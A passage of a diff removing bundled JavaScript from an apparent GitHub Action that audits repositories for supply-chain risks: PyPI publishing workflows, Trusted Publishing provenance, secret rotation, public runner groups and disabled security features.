-    return publish_jobs_str(idToken) === 'write' ? idToken : undefined;
-}
-/** Jobs a job depends on, transitively. */
-function ancestors(job, byId, seen = new Set()) {
-    const needs = job.node.get('needs', true);
-    const ids = (0,dist/* isSeq */.oP)(needs) ? needs.items.map(publish_jobs_str) : [publish_jobs_str(needs)];
-    for (const id of ids) {
-        const dep = id !== undefined ? byId.get(id) : undefined;
-        if (!dep || seen.has(id))
-            continue;
-        seen.add(id);
-        ancestors(dep, byId, seen);
-    }
-    return seen;
-}
-/** Scalars anywhere under a node, with the key (and key node) when they are a map value. */
-function* scalars(node) {
-    if ((0,dist/* isMap */.jh)(node)) {
-        for (const p of node.items) {
-            if ((0,dist/* isScalar */.jn)(p.value) && p.value.value !== null && p.value.value !== undefined) {
-                yield { key: publish_jobs_str(p.key), keyNode: p.key, node: p.value, value: String(p.value.value) };
-            }
-            else
-                yield* scalars(p.value);
-        }
-    }
-    else if ((0,dist/* isSeq */.oP)(node)) {
-        for (const item of node.items) {
-            if ((0,dist/* isScalar */.jn)(item) && item.value !== null && item.value !== undefined)
-                yield { node: item, value: String(item.value) };
-            else
-                yield* scalars(item);
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/publish.ts
-// Static checks of a repository's publishing workflows (SPEC 8): which jobs
-// publish, what starts them, where they run and with which credentials. Pure
-// over the file's text, so the audit and the template tests see the same
-// answer for the same file.
-
-
-
-const publish_RULES = defineRules({
-    publishTrigger: {
-        id: 'publish/trigger',
-        title: 'Publishing workflow starts on an event nobody chose to release on',
-        severity: 'high',
-        why: "A push, a schedule, another workflow's run or a pull_request_target event can publish a release without the release team deciding to; one pushed commit (or a fork's pull request) becomes a release.",
-        remediation: "Start the publishing workflow on `release: types: [published]` or `workflow_dispatch` only; keep other triggers in a separate workflow, or guard the publish job with `if: github.event_name == 'release'`.",
-        spec: ['S8-2']
-    },
-    publishNoEnvironment: {
-        id: 'publish/no-environment',
-        title: 'Publish job does not run in an environment',
-        severity: 'high',
-        why: 'Without an environment no required reviewer approves the upload and no deployment-branch policy limits where it runs; a PyPI Trusted Publisher bound to an environment cannot be required either.',
-        remediation: 'Add `environment: pypi` (with required reviewers and a tag or branch policy) to the publish job, and name that environment in the PyPI Trusted Publisher.',
-        spec: ['S8-8']
-    },
-    publishPassword: {
-        id: 'publish/password',
-        title: 'Publish job uses a password or long-lived token',
-        severity: 'high',
-        why: 'A PyPI token in a secret can be read by any step of any workflow that is given it and publishes from anywhere until revoked; Trusted Publishing needs no stored credential.',
-        remediation: 'Configure a PyPI Trusted Publisher for this workflow and environment, remove `password:` / `TWINE_PASSWORD` / the token secret from the workflow, give the publish job `id-token: write`, then delete the secret and revoke the token on PyPI.',
-        spec: ['S6-10', 'S8-13']
-    },
-    publishIdTokenScope: {
-        id: 'publish/id-token-scope',
-        title: '`id-token: write` granted beyond the publish job',
-        severity: 'medium',
-        why: 'An OIDC token is what PyPI Trusted Publishing trusts; a job that builds or tests with `id-token: write` can mint one and publish from code that was never meant to.',
-        remediation: 'Keep `permissions: contents: read` at the workflow level and grant `id-token: write` only on the publish job (and on a job that only signs or attests).',
-        spec: ['S8-13']
-    },
-    publishUnpinned: {
-        id: 'publish/unpinned-action',
-        title: 'Action in a publishing workflow is not pinned to a commit SHA',
-        severity: 'medium',
-        why: 'A tag or branch can be moved to new code; in the publishing workflow that code runs next to the release artifacts and the OIDC token.',
-        remediation: 'Pin to the full 40-character commit SHA with the version as a comment (`uses: owner/action@<sha> # v1.2.3`), and let Dependabot update it.',
-        spec: ['S8-9']
-    },
-    publishCache: {
-        id: 'publish/cache-in-release',
-        title: 'Release job restores a cache',
-        severity: 'medium',
-        why: 'Caches are shared with other workflows of the repository, including ones that run pull request code; a poisoned cache ends up in the released files.',
-        remediation: 'Remove `actions/cache` and the `cache:` option of setup actions from the jobs that build and publish the release; build from a clean environment.',
-        spec: ['S8-15']
-    },
-    publishNoPrintHash: {
-        id: 'publish/no-print-hash',
-        title: 'Publish step does not print the hashes of what it uploads',
-        severity: 'low',
-        why: 'Without the hashes in the log nobody can check afterwards that the files on PyPI are the ones the workflow built.',
-        remediation: 'Add `print-hash: true` under `with:` of pypa/gh-action-pypi-publish.',
-        spec: ['S8-14']
-    }
-});
-// `release` and `workflow_dispatch` are a person's decision; these are not.
-const UNINTENDED_TRIGGERS = ['push', 'pull_request_target', 'workflow_run', 'schedule'];
-// Jobs that need an OIDC token for something other than PyPI: keyless signing and attestations.
-const OIDC_SIGNERS = /^(actions\/attest(-build-provenance|-sbom)?|sigstore\/gh-action-sigstore-python|scientific-python\/security-actions\/actions\/sign-release|\.\/actions\/sign-release)$/i;
-const CREDENTIAL_ENV = /^(TWINE_PASSWORD|UV_PUBLISH_(TOKEN|PASSWORD)|FLIT_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_\w+_PASSWORD)$/i;
-const CREDENTIAL_SECRET = /\bsecrets\.(\w*(PYPI|TWINE)\w*)/i;
-const CACHING_SETUP = /^actions\/setup-(python|node|go|java|dotnet)$/i;
-/** Whether a job of the workflow publishes, or calls a reusable workflow of the same repository in `publishers`. */
-function publishes(y, publishers = new Set()) {
-    return readJobs(y, publishers).some((j) => j.publishes || j.callsPublisher);
-}
-/**
- * Findings for one workflow file: nothing unless a job publishes (pypa's
- * action, or a run step calling twine/uv/flit/poetry publish or gh release
- * upload) or calls a reusable workflow of the same repository that does
- * (`publishers`: such workflows' paths; then this file's triggers decide when
- * the release happens). Malformed YAML gives `error` and no findings.
- */
-function publishWorkflowFindings(file, source, publishers = new Set()) {
-    let y;
-    try {
-        y = typeof source === 'string' ? yaml_parseYamlFile(source, file) : source;
-    }
-    catch (e) {
-        return { issues: [], publishJobs: [], error: oneLine(e) };
-    }
-    const jobs = readJobs(y, publishers);
-    const publishing = jobs.filter((j) => j.publishes || j.callsPublisher);
-    if (!publishing.length)
-        return { issues: [], publishJobs: [] };
-    const issues = [];
-    const at = (node) => ({ file, line: y.pos(node).line });
-    const issue = (rule, node, message, key, evidence) => issues.push({
-        rule,
-        input: {
-            message: `${file}:${y.pos(node).line}: ${message}`,
-            location: at(node),
-            key: `${file}\0${key}`,
-            evidence,
-            properties: { file }
-        }
-    });
-    const names = publishing.map((j) => j.id).join(', ');
-    // S8-2: an unintended event that reaches a publish job.
-    for (const { event, node } of triggers(y)) {
-        if (!UNINTENDED_TRIGGERS.includes(event))
-            continue;
-        const reached = publishing.filter((j) => {
-            const allowed = eventsAllowedByIf(j);
-            return !allowed || allowed.has(event);
-        });
-        if (reached.length) {
-            issue(publish_RULES.publishTrigger, node, `\`${event}\` starts the workflow that publishes (job ${reached.map((j) => j.id).join(', ')}).`, `trigger:${event}`, event);
-        }
-    }
-    const byId = new Map(jobs.map((j) => [j.id, j]));
-    const releaseJobs = new Set(publishing.flatMap((j) => [j.id, ...ancestors(j, byId)]));
-    for (const job of publishing) {
-        // S8-8: the publish job runs in an environment (whose reviewers and branch policy guard it).
-        // A job that calls a reusable workflow cannot have one: the called workflow's job is checked in its own file.
-        if (job.publishes && !job.node.has('environment'))
-            issue(publish_RULES.publishNoEnvironment, job.keyNode, `publish job ${job.id} has no \`environment:\`.`, `environment:${job.id}`);
-        // S6-10 / S8-13: credentials instead of Trusted Publishing.
-        for (const step of job.steps) {
-            if (step.uses && PUBLISH_ACTION.test(actionName(step.uses))) {
-                const withNode = step.node.get('with', true);
-                const password = (0,dist/* isMap */.jh)(withNode) ? withNode.items.find((p) => publish_jobs_str(p.key) === 'password') : undefined;
-                if (password)
-                    issue(publish_RULES.publishPassword, password.key, `publish job ${job.id} passes \`password:\` to pypa/gh-action-pypi-publish.`, `password:${job.id}:with.password`, 'password');
-                const printHash = (0,dist/* isMap */.jh)(withNode) ? withNode.get('print-hash', true) : undefined;
-                if (!printHash || !['true', 'yes'].includes(String(publish_jobs_str(printHash)).toLowerCase())) {
-                    issue(publish_RULES.publishNoPrintHash, step.usesNode, `pypa/gh-action-pypi-publish in job ${job.id} does not set \`print-hash: true\`.`, `print-hash:${job.id}`);
-                }
-            }
-        }
-        const seen = new Set();
-        // The job's own values and the workflow-level env it inherits.
-        for (const s of [...scalars(job.node), ...scalars(mapGet(y.doc.contents, 'env'))]) {
-            const secret = CREDENTIAL_SECRET.exec(s.value)?.[1];
-            const envName = s.key && CREDENTIAL_ENV.test(s.key) ? s.key : undefined;
-            const what = envName ?? (secret ? `secrets.${secret}` : undefined);
-            if (!what || seen.has(what) || s.key === 'password')
-                continue;
-            seen.add(what);
-            issue(publish_RULES.publishPassword, s.keyNode ?? s.node, `publish job ${job.id} uses a long-lived credential (${what}).`, `password:${job.id}:${what}`, what);
-        }
-    }
-    // S8-13: an OIDC token only where it is needed: the publish job, or a signing job.
-    const wfToken = grantsIdToken(y.doc.contents);
-    if (wfToken)
-        issue(publish_RULES.publishIdTokenScope, wfToken, `the workflow grants \`id-token: write\` to every job (publish job: ${names}).`, 'id-token:workflow');
-    for (const job of jobs) {
-        const token = job.publishes || job.callsPublisher ? undefined : grantsIdToken(job.node);
-        if (!token || job.steps.some((s) => s.uses && OIDC_SIGNERS.test(actionName(s.uses))))
-            continue;
-        issue(publish_RULES.publishIdTokenScope, token, `job ${job.id} does not publish or sign but gets \`id-token: write\`.`, `id-token:${job.id}`);
-    }
-    // S8-9: every action of a publishing workflow pinned to a commit.
-    for (const u of findUses(y)) {
-        const pinned = u.kind === 'local' || (u.kind === 'docker' ? !!u.ref?.startsWith('sha256:') : FULL_SHA.test(u.ref ?? ''));
-        if (!pinned)
-            issues.push({
-                rule: publish_RULES.publishUnpinned,
-                input: {
-                    message: `${file}:${u.line}: \`${u.raw}\` is not pinned to a full commit SHA.`,
-                    location: { file, line: u.line, column: u.column },
-                    key: `${file}\0unpinned:${u.where}:${u.raw}`,
-                    evidence: u.raw,
-                    properties: { file }
-                }
-            });
-    }
-    // S8-15: no cache in the jobs that build and publish the release (a poisoned cache ships).
-    for (const id of releaseJobs) {
-        for (const step of byId.get(id).steps) {
-            if (!step.uses)
-                continue;
-            const action = actionName(step.uses);
-            const withNode = step.node.get('with', true);
-            const cacheOpt = CACHING_SETUP.test(action)
-                ? mapGet(withNode, 'cache')
-                : /^astral-sh\/setup-uv$/i.test(action)
-                    ? mapGet(withNode, 'enable-cache')
-                    : undefined;
-            const caches = /^actions\/cache(\/|$)/i.test(action) ||
-                (cacheOpt !== undefined && !['', 'false'].includes(String(publish_jobs_str(cacheOpt) ?? '').toLowerCase()));
-            if (caches)
-                issue(publish_RULES.publishCache, step.usesNode, `release job ${id} restores a cache (${action}${cacheOpt ? ` with ${publish_jobs_str(cacheOpt)}` : ''}).`, `cache:${id}:${action}`, action);
-        }
-    }
-    return { issues, publishJobs: publishing.map((j) => j.id) };
-}
-/**
- * The publish/* rules over a repository's workflow files. A workflow that
- * calls a local reusable workflow which publishes is itself a publishing
- * workflow (its triggers start the release), so the set of publishing files
- * is grown until it is stable (GitHub nests reusable workflows at most four
- * levels deep).
- */
-const publishing = {
-    id: 'publish',
-    scope: 'repo',
-    rules: rulesOf(publish_RULES),
-    run({ name, workflows, add }) {
-        const parsed = (workflows() ?? []).filter((w) => !!w.y);
-        const publishers = new Set();
-        for (let depth = 0; depth <= 4; depth++) {
-            const before = publishers.size;
-            for (const w of parsed)
-                if (publishes(w.y, publishers))
-                    publishers.add(w.file);
-            if (publishers.size === before)
-                break;
-        }
-        for (const w of parsed.filter((x) => publishers.has(x.file))) {
-            for (const { rule, input } of publishWorkflowFindings(w.file, w.y, publishers).issues)
-                add(rule, name, { ...input, message: `${name}: ${input.message}` });
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/pypi.ts
-// PyPI side of the audit: who owns each package, and whether its latest
-// release was published by this repository through Trusted Publishing. The
-// provenance's publisher fields are compared; verifying the attestation
-// signatures is verify-deps' job.
-
-/** Reads what the checks need; throws a one-line error when PyPI cannot answer. */
-async function packageState(pypi, name) {
-    const p = await pypi.project(name);
-    if (!p)
-        return 'not-found';
-    const state = {
-        name,
-        version: p.version,
-        owners: p.ownership?.roles.filter((r) => r.role === 'Owner').map((r) => r.user),
-        organization: p.ownership?.organization
-    };
-    const file = p.files[0];
-    if (!file)
-        return state;
-    try {
-        const prov = await pypi.provenance(pypi.integrityUrl(name, p.version, file));
-        state.publisher = trustedPublisher(prov?.attestation_bundles[0]?.publisher);
-    }
-    catch (e) {
-        throw new Error(`${name} ${p.version}: ${oneLine(e)}`);
-    }
-    return state;
-}
-/** `[project] name` of a pyproject.toml, or undefined. */
-function projectName(doc) {
-    const project = doc.project;
-    return typeof project?.name === 'string' ? project.name : undefined;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/pypi-packages.ts
-// The PyPI packages a repository publishes (SPEC 6, SPEC 8): who owns each,
-// and whether its latest release was published by this repository through
-// Trusted Publishing from one of its environments.
-
-
-const pypi_packages_RULES = defineRules({
-    pypiSingleOwner: {
-        id: 'pypi/single-owner',
-        title: 'PyPI package has a single owner and no PyPI organization',
-        severity: 'medium',
-        why: 'If the only owner loses their account, nobody can publish fixes, add Trusted Publishers or recover the project.',
-        remediation: 'Add a second maintainer as Owner on PyPI (Manage → Collaborators), or move the project to a PyPI organization.',
-        spec: ['S6-6']
-    },
-    pypiNoProvenance: {
-        id: 'pypi/no-trusted-publishing',
-        title: 'Latest PyPI release has no provenance (not published with Trusted Publishing)',
-        severity: 'high',
-        why: 'A release without provenance was uploaded with a password or API token, which can leak and publish from anywhere.',
-        remediation: 'Add a Trusted Publisher for this repository, workflow and environment on PyPI, publish with pypa/gh-action-pypi-publish, and revoke the API tokens.',
-        spec: ['S6-10', 'S8-13']
-    },
-    pypiPublisherMismatch: {
-        id: 'pypi/publisher-mismatch',
-        title: 'Latest PyPI release was published from another repository or without an environment',
-        severity: 'high',
-        why: 'The Trusted Publisher decides who can publish; one outside this repository, or without a protected environment, bypasses its reviews.',
-        remediation: 'On PyPI, keep only the Trusted Publisher for this repository with its release environment; remove the others.',
-        spec: ['S8-8', 'S8-13']
-    }
-});
-/** The not-checked name of the pypi/* rules as a group. */
-const PYPI_CHECK = 'pypi/*';
-const pypiPackages = {
-    id: 'pypi-packages',
-    scope: 'repo',
-    rules: rulesOf(pypi_packages_RULES),
-    start({ org, pypi, skip }) {
-        if (!pypi)
-            skip(PYPI_CHECK, 'not checked: no PyPI URL given', org);
-    },
-    run: (c) => (c.pypi ? auditPackages(c.pypi, c) : undefined)
-};
-async function auditPackages(pypi, c) {
-    const { org, name, repo, failed } = c;
-    let packages = c.config.packages[name];
-    if (!packages) {
-        if (failed('pyproject'))
-            return c.skip(PYPI_CHECK, 'not checked: pyproject.toml not readable (needs contents: read)', name);
-        const text = repo.pyproject?.text;
-        if (!text)
-            return; // not a Python package, or not configured
-        try {
-            const pkg = projectName(parseTomlFile(text, `${name}/pyproject.toml`));
-            packages = pkg ? [pkg] : [];
-        }
-        catch (e) {
-            return c.skip(PYPI_CHECK, `not checked: ${oneLine(e)}`, name);
-        }
-    }
-    const envs = failed('environments') ? undefined : new Set((repo.environments?.nodes ?? []).map((e) => e.name));
-    for (const pkg of packages) {
-        let state;
-        try {
-            state = await c.limit(() => packageState(pypi, pkg));
-        }
-        catch (e) {
-            c.skip(PYPI_CHECK, `not checked for ${pkg}: ${oneLine(e)}`, name);
-            continue;
-        }
-        if (state === 'not-found') {
-            c.skip(PYPI_CHECK, `not checked: ${pkg} is not on PyPI`, name);
-            continue;
-        }
-        const props = { package: pkg, version: state.version };
-        if (!state.owners) {
-            c.skip(pypi_packages_RULES.pypiSingleOwner.id, `not checked: PyPI did not say who owns ${pkg}`, name);
-        }
-        else if (state.owners.length < 2 && !state.organization) {
-            c.add(pypi_packages_RULES.pypiSingleOwner, name, {
-                message: `${name}: PyPI package ${pkg} has ${state.owners.length} owner${state.owners.length === 1 ? '' : 's'} and no PyPI organization.`,
-                key: pkg,
-                properties: props
-            });
-        }
-        const p = state.publisher;
-        if (!p) {
-            c.add(pypi_packages_RULES.pypiNoProvenance, name, {
-                message: `${name}: the latest release of ${pkg} (${state.version}) has no provenance.`,
-                key: pkg,
-                properties: props
-            });
-            continue;
-        }
-        const problems = [];
-        if (p.kind !== 'GitHub' || (p.repository ?? '').toLowerCase() !== `${org}/${name}`.toLowerCase())
-            problems.push(`published from ${p.kind ?? '?'} ${p.repository ?? '?'}`);
-        if (!p.environment)
-            problems.push('published without an environment');
-        else if (envs && !envs.has(p.environment))
-            problems.push(`environment ${p.environment} does not exist in the repository`);
-        if (problems.length) {
-            c.add(pypi_packages_RULES.pypiPublisherMismatch, name, {
-                message: `${name}: the latest release of ${pkg} (${state.version}) was ${problems.join('; ')} (workflow ${p.workflow ?? '?'}).`,
-                key: pkg,
-                properties: { ...props, publisher: p }
-            });
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/rotation.ts
-// Rotation after a removal (SPEC 6): the access snapshot of this run against
-// the previous run's.
-
-const rotation_RULES = defineRules({
-    accessRemoved: {
-        id: 'people/removed-rotate-secrets',
-        title: 'Person lost access: rotate the secrets and deploy keys they could reach',
-        severity: 'medium',
-        why: 'Someone who had write access could have copied secrets or deploy keys; SPEC 6 asks to rotate what predates their removal.',
-        remediation: 'Rotate each listed secret (and revoke the old token at its issuer) and replace each listed deploy key; then the finding disappears at the next run.',
-        spec: ['S6-8', 'S6-5']
-    }
-});
-/**
- * People who had write access at the previous run and no longer have it, per
- * repository audited both times, with the secrets and deploy keys older than
- * the previous run (the removal happened after it): SPEC 6 says to rotate
- * them. A removal stays in the snapshot, and its finding in every report,
- * until each of those secrets has been updated and each key replaced.
- */
-const rotation = {
-    id: 'rotation',
-    scope: 'after',
-    rules: rulesOf(rotation_RULES),
-    async run({ org, previous, gathered, inScope, add, skip, notes }) {
-        if (!previous)
-            return skip(rotation_RULES.accessRemoved.id, 'not checked: no previous report given (input previous-report)', org);
-        const now = gathered.access;
-        for (const [repo, before] of Object.entries(previous.access)) {
-            const after = now[repo];
-            if (!after) {
-                // In this run's scope but not audited (rate budget, an error): keep what the previous run knew for the next one.
-                // Another shard's repositories are that shard's to carry.
-                if (inScope(repo))
-                    now[repo] = before;
-                continue;
-            }
-            const pending = new Map((before.removed ?? []).map((r) => [r.login.toLowerCase(), r]));
-            if (after.people && before.people) {
-                const current = new Set(after.people.map((p) => p.toLowerCase()));
-                for (const p of before.people)
-                    if (!current.has(p.toLowerCase()) && !pending.has(p.toLowerCase()))
-                        pending.set(p.toLowerCase(), { login: p, since: previous.finishedAt });
-            }
-            // Someone who has write access again needs no rotation on their account.
-            for (const p of after.people ?? [])
-                pending.delete(p.toLowerCase());
-            if (!pending.size)
-                continue;
-            if (!after.secrets || !after.deployKeys) {
-                skip(rotation_RULES.accessRemoved.id, `not checked: ${[...pending.values()].map((r) => r.login).join(', ')} lost write access, but the secrets or deploy keys to rotate were not readable`, repo);
-                after.removed = [...pending.values()];
-                continue;
-            }
-            const still = [];
-            for (const r of pending.values()) {
-                const secrets = after.secrets.filter((x) => x.updatedAt < r.since);
-                const keys = after.deployKeys.filter((k) => k.createdAt < r.since);
-                if (!secrets.length && !keys.length) {
-                    notes.push(`${r.login} no longer has write access to ${repo} (since ${r.since.slice(0, 10)}); no secret or deploy key there predates the removal.`);
-                    continue;
-                }
-                still.push(r);
-                const what = [
-                    ...secrets.map((x) => `secret ${x.name} (updated ${x.updatedAt.slice(0, 10)})`),
-                    ...keys.map((k) => `deploy key "${k.title}" (added ${k.createdAt.slice(0, 10)})`)
-                ];
-                add(rotation_RULES.accessRemoved, repo, {
-                    message: `${repo}: ${r.login} lost write access after ${r.since.slice(0, 10)}; rotate ${what.join(', ')}.`,
-                    key: `${r.login}/${r.since}`,
-                    properties: {
-                        login: r.login,
-                        since: r.since,
-                        secrets: secrets.map((x) => x.name),
-                        deployKeys: keys.map((k) => k.title)
-                    }
-                });
-            }
-            if (still.length)
-                after.removed = still;
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/runner-groups.ts
-// Self-hosted runner groups open to public repositories, where anyone's pull
-// request can reach the runners.
-
-
-const runner_groups_RULES = defineRules({
-    runnerGroupPublic: {
-        id: 'org/runner-group-public',
-        title: 'Self-hosted runners are available to public repositories',
-        severity: 'high',
-        why: "Anyone can open a pull request on a public repository; its workflow can target the group's runners, run code on the machine and persist there (the PyTorch runner compromise).",
-        remediation: 'Untick "Allow public repositories" on the runner group, or use ephemeral, isolated runners and require approval for all outside contributors.',
-        spec: ['S8-16']
-    }
-});
-const runnerGroups = {
-    id: 'runner-groups',
-    scope: 'org',
-    rules: rulesOf(runner_groups_RULES),
-    async run({ io, org, add, skip }) {
-        const need = 'organization self-hosted runners: read';
-        let groups;
-        try {
-            groups = await listAll(io, 'GET /orgs/{org}/actions/runner-groups', { org }, 'runner_groups');
-        }
-        catch (e) {
-            return skip(runner_groups_RULES.runnerGroupPublic.id, `not checked: ${describeApiError(e, need)}`, org);
-        }
-        for (const g of groups.filter((x) => x.allows_public_repositories)) {
-            try {
-                const runners = await listAll(io, 'GET /orgs/{org}/actions/runner-groups/{runner_group_id}/runners', { org, runner_group_id: g.id }, 'runners');
-                // An empty group is a latent risk only: a runner added later is exposed at once.
-                add(runner_groups_RULES.runnerGroupPublic, undefined, {
-                    severity: runners.length ? 'high' : 'low',
-                    message: `Runner group "${g.name}" of ${org} is open to public repositories${runners.length ? ` and has ${runners.length} runner${runners.length === 1 ? '' : 's'}` : ' (no runners in it now)'}.`,
-                    key: String(g.id),
-                    properties: { group: g.name, runners: runners.map((r) => r.name) }
-                });
-            }
-            catch (e) {
-                skip(runner_groups_RULES.runnerGroupPublic.id, `not checked for runner group "${g.name}": ${describeApiError(e, need)}`, org);
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/secrets.ts
-// Actions secrets that look like long-lived publish tokens (SPEC 6, SPEC 8):
-// names only, from REST (GraphQL has no field for them). The names and when
-// each was last updated go into the access snapshot for the rotation check.
-
-const secrets_RULES = defineRules({
-    longLivedToken: {
-        id: 'repo/long-lived-token-secret',
-        title: 'Secret that looks like a long-lived PyPI or API token',
-        severity: 'high',
-        why: 'A PyPI API token in a repository secret can publish any release from any workflow that reads it; Trusted Publishing makes it unnecessary.',
-        remediation: 'Configure PyPI Trusted Publishing for the publish workflow and environment, then delete the secret and revoke the token on PyPI.',
-        spec: ['S6-10', 'S8-13']
-    }
-});
-const secrets = {
-    id: 'secrets',
-    scope: 'repo',
-    rules: rulesOf(secrets_RULES),
-    async run({ io, org, name, config, limit, gathered, add, skip }) {
-        try {
-            const { data } = (await limit(() => io.request('GET /repos/{owner}/{repo}/actions/secrets', { owner: org, repo: name, per_page: 100 })));
-            (gathered.access[name] ??= {}).secrets = (data.secrets ?? []).map((s) => ({
-                name: s.name,
-                updatedAt: s.updated_at ?? s.created_at
-            }));
-            for (const s of data.secrets ?? []) {
-                if (!config.tokenSecretPatterns.some((p) => p.test(s.name)))
-                    continue;
-                add(secrets_RULES.longLivedToken, name, {
-                    message: `${name}: secret ${s.name} (last updated ${String(s.updated_at ?? s.created_at).slice(0, 10)}) looks like a long-lived publish token.`,
-                    key: s.name,
-                    properties: { secret: s.name, updatedAt: s.updated_at ?? s.created_at }
-                });
-            }
-        }
-        catch (e) {
-            skip(secrets_RULES.longLivedToken.id, `not checked: ${describeApiError(e, 'secrets: read')}`, name);
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/listing.ts
-/** Public by `visibility`, or by `private` where GitHub gives no visibility. */
-const isPublic = (listing) => listing.visibility ? listing.visibility === 'public' : listing.private === false;
-/** Whether the repository's custom property has the value (or one of the values) the config names. */
-function propertyMatches(listing, m) {
-    if (!m)
-        return false;
-    const v = listing.custom_properties?.[m.property];
-    const wanted = (Array.isArray(m.value) ? m.value : [m.value]).map((x) => x.toLowerCase());
-    return (Array.isArray(v) ? v : [v]).some((x) => typeof x === 'string' && wanted.includes(x.toLowerCase()));
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/security-features.ts
-// A repository's security features, the Scientific Python "core 5" beside
-// branch protection: secret scanning and push protection, code scanning,
-// private vulnerability reporting, Dependabot alerts, security updates and
-// action updates. Most of it
-// comes from data already fetched (the repository list's
-// `security_and_analysis`, the batched GraphQL answer, the workflow files);
-// REST only for private vulnerability reporting (public repositories) and
-// CodeQL default setup (only when no code-scanning workflow was seen).
-
-
-
-const security_features_RULES = defineRules({
-    secretScanningOff: {
-        id: 'repo/secret-scanning-off',
-        title: 'Secret scanning is off',
-        severity: 'medium',
-        why: 'Tokens committed by mistake stay usable until someone notices; secret scanning is free for public repositories and alerts at once.',
-        remediation: 'Settings → Code security → Secret Protection: enable secret scanning.',
-        spec: ['S6-4']
-    },
-    pushProtectionOff: {
-        id: 'repo/push-protection-off',
-        title: 'Secret scanning push protection is off',
-        severity: 'low',
-        why: 'Push protection refuses a push that contains a known token format, before the token becomes public.',
-        remediation: 'Settings → Code security → Secret Protection: enable push protection.',
-        spec: ['S6-4']
-    },
-    codeScanningOff: {
-        id: 'repo/code-scanning-off',
-        title: 'No code scanning',
-        severity: 'low',
-        why: 'Code scanning (CodeQL, zizmor) finds injectable workflows and unsafe code before release; the Scientific Python "core 5" includes it.',
-        remediation: 'Settings → Code security → Code scanning: enable CodeQL default setup (it covers Python and GitHub Actions workflows), or add a CodeQL or zizmor workflow.',
-        spec: ['S8-16']
-    },
-    pvrOff: {
-        id: 'repo/private-vulnerability-reporting-off',
-        title: 'Private vulnerability reporting is off',
-        severity: 'low',
-        why: 'Without a private channel, reporters open public issues about vulnerabilities or give up.',
-        remediation: 'Settings → Code security → Private vulnerability reporting: enable, and mention it in SECURITY.md.',
-        spec: ['S6-1']
-    },
-    dependabotAlertsOff: {
-        id: 'repo/dependabot-alerts-off',
-        title: 'Dependabot alerts are off',
-        severity: 'medium',
-        why: 'Nobody is told when a dependency the project pins gets a known vulnerability or is found to be malware.',
-        remediation: 'Settings → Code security → Dependabot alerts: enable (free for all repositories).',
-        spec: ['S8-16']
-    },
-    dependabotSecurityUpdatesOff: {
-        id: 'repo/dependabot-security-updates-off',
-        title: 'Dependabot security updates are off',
-        severity: 'low',
-        why: 'Security updates open the pull request that fixes a vulnerable dependency, so the fix does not wait for someone to notice the alert.',
-        remediation: 'Settings → Code security → Dependabot security updates: enable.',
-        spec: ['S8-16']
-    },
-    dependabotActionsMissing: {
-        id: 'repo/dependabot-actions-missing',
-        title: 'Dependabot does not update the pinned GitHub Actions',
-        severity: 'low',
-        why: "SHA-pinned actions do not update themselves; without Dependabot's github-actions updates pins age and miss security fixes, and hand-made updates are not reviewed the same way.",
-        remediation: 'Add `.github/dependabot.yml` with a `package-ecosystem: github-actions` entry (grouped, with a cooldown), reviewed like any pull request.',
-        spec: ['S8-10']
-    }
-});
-const CODE_SCANNING_ACTION = /^(github\/codeql-action\/(analyze|upload-sarif)|zizmorcore\/zizmor-action)$/i;
-const securityFeatures = {
-    id: 'security-features',
-    scope: 'repo',
-    rules: rulesOf(security_features_RULES),
-    run: features
-};
-async function features(c) {
-    const { name, repo, listing, failed, add, skip } = c;
-    const workflows = c.workflows();
-    const pub = isPublic(listing);
-    const sa = listing.security_and_analysis;
-    const adminOnly = 'not checked: needs administration: read (GitHub shows security_and_analysis to repository administrators only)';
-    const enabled = (s) => s?.status === 'enabled';
-    // Secret scanning is free on public repositories; on private ones it is a paid product, not a finding.
-    if (pub) {
-        if (!sa?.secret_scanning)
-            skip(security_features_RULES.secretScanningOff.id, adminOnly, name);
-        else if (!enabled(sa.secret_scanning))
-            add(security_features_RULES.secretScanningOff, name, { message: `${name}: secret scanning is off.` });
-        else if (sa.secret_scanning_push_protection && !enabled(sa.secret_scanning_push_protection)) {
-            add(security_features_RULES.pushProtectionOff, name, { message: `${name}: secret scanning push protection is off.` });
-        }
-    }
-    // Dependabot alerts (GraphQL), then security updates (only meaningful with alerts on).
-    const alertsErr = failed('vulnerabilityAlerts');
-    if (alertsErr || typeof repo.vulnerabilityAlerts !== 'boolean') {
-        skip(security_features_RULES.dependabotAlertsOff.id, `not checked: needs administration: read${alertsErr ? ` (${alertsErr.message})` : ''}`, name);
-    }
-    else if (!repo.vulnerabilityAlerts) {
-        add(security_features_RULES.dependabotAlertsOff, name, { message: `${name}: Dependabot alerts are off.` });
-    }
-    else if (!sa?.dependabot_security_updates) {
-        skip(security_features_RULES.dependabotSecurityUpdatesOff.id, adminOnly, name);
-    }
-    else if (!enabled(sa.dependabot_security_updates)) {
-        add(security_features_RULES.dependabotSecurityUpdatesOff, name, { message: `${name}: Dependabot security updates are off.` });
-    }
-    if (workflows)
-        dependabotActions(workflows, c);
-    // Private vulnerability reporting exists for public repositories only.
-    if (pub) {
-        try {
-            const { enabled: on } = (await c.limit(() => c.io.request('GET /repos/{owner}/{repo}/private-vulnerability-reporting', { owner: c.org, repo: name }))).data;
-            if (on === false)
-                add(security_features_RULES.pvrOff, name, { message: `${name}: private vulnerability reporting is off.` });
-            else if (on !== true)
-                skip(security_features_RULES.pvrOff.id, 'not checked: GitHub returned no "enabled"', name);
-        }
-        catch (e) {
-            skip(security_features_RULES.pvrOff.id, `not checked: ${e.status === 404 ? 'not available on this GitHub' : describeApiError(e, 'metadata: read')}`, name);
-        }
-    }
-    await codeScanning(workflows, pub || enabled(sa?.advanced_security) || enabled(sa?.code_security), c);
-}
-/** Dependabot's `github-actions` updates, for repositories that have workflows to update. */
-function dependabotActions(workflows, { name, repo, failed, add, skip }) {
-    const usesActions = workflows.some((w) => w.uses?.some((u) => u.kind !== 'local'));
-    if (!usesActions)
-        return;
